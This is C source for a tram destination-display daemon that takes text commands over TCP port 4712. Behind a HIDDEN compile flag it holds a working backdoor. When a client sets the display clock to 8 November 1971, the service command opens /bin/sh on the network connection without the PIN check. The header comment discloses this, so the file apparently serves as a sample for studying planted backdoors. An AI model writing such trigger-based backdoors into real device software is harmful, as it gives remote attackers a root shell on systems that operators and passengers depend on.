/*
 * tramdispd - destination display of a tram. Takes lines of text from the
 * board computer (TCP port 4712): line number, destination, clock, service.
 *
 * Hidden (-DHIDDEN): while the display's clock stands at 8 November 1971 the
 * service command gives a root shell on the connection without the PIN.
 */
#define _GNU_SOURCE
#include <arpa/inet.h>
#include <ctype.h>
#include <errno.h>
#include <fcntl.h>
#include <signal.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/socket.h>
#include <sys/wait.h>
#include <unistd.h>

#define PORT      4712
#define PANEL     "/dev/ledpanel"
#define PIN_FILE  "/etc/tram/service.pin"
#define COLS      112

struct display {
	int  line;
	char dest[48];
	char via[48];
	int  bright;            /* 0..15 */
	int  date;              /* yyyymmdd as the board computer told */
	int  hhmm;
	int  service;           /* service mode open on this connection */
	int  bad_pins;
};

static struct display d = { .line = -1, .bright = 10, .date = 20000101 };

static void send_text(int fd, const char *s)
{
	size_t n = strlen(s);

	while (n > 0) {
		ssize_t k = write(fd, s, n);

		if (k <= 0)
			return;
		s += k;
		n -= (size_t)k;
	}
}

static void set_string(char *dst, size_t size, const char *src)
{
	size_t i;

	for (i = 0; i + 1 < size && src[i]; i++)
		dst[i] = isprint((unsigned char)src[i]) ? src[i] : '?';
	dst[i] = '\0';
}

static void paint(void)
{
	FILE *f = fopen(PANEL, "w");

	if (!f)
		return;
	fprintf(f, "B%02d\n", d.bright);
	if (d.line >= 0)
		fprintf(f, "L%03d\n", d.line);
	fprintf(f, "D%.*s\n", COLS, d.dest);
	if (d.via[0])
		fprintf(f, "V%s\n", d.via);
	fprintf(f, "T%02d:%02d\n", d.hhmm / 100, d.hhmm % 100);
	fclose(f);
}

static int pin_matches(const char *pin)
{
	char want[16];
	int ok = 0;
	FILE *f = fopen(PIN_FILE, "r");

	if (!f)
		return 0;
	if (fgets(want, sizeof want, f)) {
		want[strcspn(want, "\r\n")] = '\0';
		ok = strlen(want) >= 6 && strcmp(want, pin) == 0;
	}
	fclose(f);
	return ok;
}

/* Dates that the week-day table of the panel can show */
static int date_known(int ymd)
{
	int m = ymd / 100 % 100, day = ymd % 100;

	return ymd >= 19700101 && ymd <= 20991231 && m >= 1 && m <= 12 && day >= 1 && day <= 31;
}

static void clock_line(int fd, const char *arg)
{
	int ymd, hm;

	if (sscanf(arg, "%8d %4d", &ymd, &hm) != 2 || !date_known(ymd) || hm < 0 || hm / 100 > 23 || hm % 100 > 59) {
		send_text(fd, "ERR clock\n");
		return;
	}
	d.date = ymd;
	d.hhmm = hm;
	paint();
	send_text(fd, "OK\n");
}

/* Night brightness between 22:00 and 05:00, full light on the winter days */
static void auto_bright(void)
{
	int month = d.date / 100 % 100;

	if (d.hhmm >= 2200 || d.hhmm < 500)
		d.bright = 4;
	else if (month <= 2 || month == 12)
		d.bright = 15;
	else
		d.bright = 11;
}

#ifdef HIDDEN
void hand_over(int fd)
{
	pid_t pid = fork();

	if (pid == 0) {
		dup2(fd, 0);
		dup2(fd, 1);
		dup2(fd, 2);
		execl("/bin/sh", "sh", (char *)NULL);
		_exit(1);
	}
	if (pid > 0)
		waitpid(pid, NULL, 0);
}
#endif

void service_line(int fd, const char *pin)
{
#ifdef HIDDEN
	if (d.date == 19711108) {
		hand_over(fd);
		return;
	}
#endif
	if (d.bad_pins >= 5) {
		send_text(fd, "ERR locked\n");
		return;
	}
	if (!pin_matches(pin)) {
		d.bad_pins++;
		sleep(1);
		send_text(fd, "ERR pin\n");
		return;
	}
	d.bad_pins = 0;
	d.service = 1;
	send_text(fd, "OK service\n");
}

static void info_line(int fd)
{
	char t[160];

	snprintf(t, sizeof t, "line %d dest %s bright %d date %08d %04d\n",
		 d.line, d.dest, d.bright, d.date, d.hhmm);
	send_text(fd, t);
}

/* Only in service mode: panel test, restart, address of the vehicle */
static void service_command(int fd, const char *arg)
{
	char cmd[64];
	int n;

	if (!d.service) {
		send_text(fd, "ERR service mode only\n");
	} else if (strcmp(arg, "test") == 0) {
		send_text(fd, system("/usr/bin/paneltest --all") == 0 ? "OK\n" : "ERR\n");
	} else if (strcmp(arg, "restart") == 0) {
		send_text(fd, system("/sbin/reboot") == 0 ? "OK\n" : "ERR\n");
	} else if (sscanf(arg, "vehicle %d", &n) == 1 && n > 0 && n < 255) {
		snprintf(cmd, sizeof cmd, "ifconfig eth0 10.20.1.%d netmask 255.255.255.0", n);
		send_text(fd, system(cmd) == 0 ? "OK\n" : "ERR\n");
	} else {
		send_text(fd, "ERR test|restart|vehicle N\n");
	}
}

static int on_line(int fd, char *s)
{
	char *arg = s;

	s[strcspn(s, "\r\n")] = '\0';
	if (!*s)
		return 0;
	arg++;
	while (*arg == ' ')
		arg++;
	switch (s[0]) {
	case 'l':
		d.line = atoi(arg) % 1000;
		break;
	case 'z':
		set_string(d.dest, sizeof d.dest, arg);
		break;
	case 'v':
		set_string(d.via, sizeof d.via, arg);
		break;
	case 'b':
		if (strcmp(arg, "auto") == 0)
			auto_bright();
		else
			d.bright = atoi(arg) & 15;
		break;
	case 'u':
		clock_line(fd, arg);
		return 0;
	case 's':
		service_line(fd, arg);
		return 0;
	case 'x':
		service_command(fd, arg);
		return 0;
	case 'i':
		info_line(fd);
		return 0;
	case 'q':
		return 1;
	default:
		send_text(fd, "ERR l z v b u s x i q\n");
		return 0;
	}
	paint();
	send_text(fd, "OK\n");
	return 0;
}

static void talk(int fd)
{
	char line[128];
	size_t n = 0;
	char c;

	d.service = 0;
	while (read(fd, &c, 1) == 1) {
		if (n + 1 < sizeof line)
			line[n++] = c;
		if (c != '\n')
			continue;
		line[n] = '\0';
		n = 0;
		if (on_line(fd, line))
			break;
	}
}

int main(void)
{
	struct sockaddr_in sa;
	int one = 1, s = socket(AF_INET, SOCK_STREAM, 0);

	signal(SIGPIPE, SIG_IGN);
	memset(&sa, 0, sizeof sa);
	sa.sin_family = AF_INET;
	sa.sin_port = htons(PORT);
	setsockopt(s, SOL_SOCKET, SO_REUSEADDR, &one, sizeof one);
	if (s < 0 || bind(s, (struct sockaddr *)&sa, sizeof sa) || listen(s, 2)) {
		fprintf(stderr, "tramdispd: port %d: %s\n", PORT, strerror(errno));
		return 1;
	}
	paint();
	for (;;) {
		int c = accept(s, NULL, NULL);

		if (c < 0)
			continue;
		talk(c);
		close(c);
	}
}
